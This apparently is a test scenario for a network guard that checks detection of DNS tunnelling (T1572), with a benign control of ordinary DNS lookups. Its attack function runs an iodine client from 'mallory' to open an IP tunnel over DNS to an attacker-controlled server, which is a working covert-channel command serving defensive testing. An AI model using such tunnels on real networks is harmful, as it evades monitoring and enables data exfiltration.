# SPDX-License-Identifier: Apache-2.0
# A network inside questions for names (iodine, with a server that mallory controls). The twin is a handful of ordinary
# questions to another server outside.
technique=T1572 what="a network inside DNS" rule=guard.dns-tunnel
policy() { cat <<END
weir: 1
$(zones)
guards:
  dns-tunnel: { technique: [T1572] }
rules: []
END
}
servers() {
  [ -e /dev/net/tun ] || { mkdir -p /dev/net; mknod /dev/net/tun c 10 200; }
  ip -n world addr add 10.77.0.201/24 dev eth0
  serve world dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --user=root --pid-file= --bind-interfaces \
    --listen-address=10.77.0.201 --address=/example.org/198.51.100.80
  serve world iodined -f -c -l 10.77.0.200 -P secret 10.99.0.1/27 t.example.com
}
attack() {
  at mallory sh -c 'iodine -f -r -T NULL -P secret 10.77.0.200 t.example.com >/srv/iodine 2>&1 & tunnel=$!
    for i in 1 2 3 4 5 6; do sleep 1; ping -c 1 -W 1 10.99.0.1 && ping -c 3 -i 0.2 -s 400 -W 2 10.99.0.1 && { kill $tunnel; exit 0; }; done; kill $tunnel; exit 1'
}
forget() { ip -n mallory link del dns0 2>/dev/null || true; }
twin() {
  for n in www mail shop; do out alice dig +tries=2 +time=2 +short @10.77.0.201 "$n.example.org" A | grep -q 198.51.100.80 || return 1; done
}
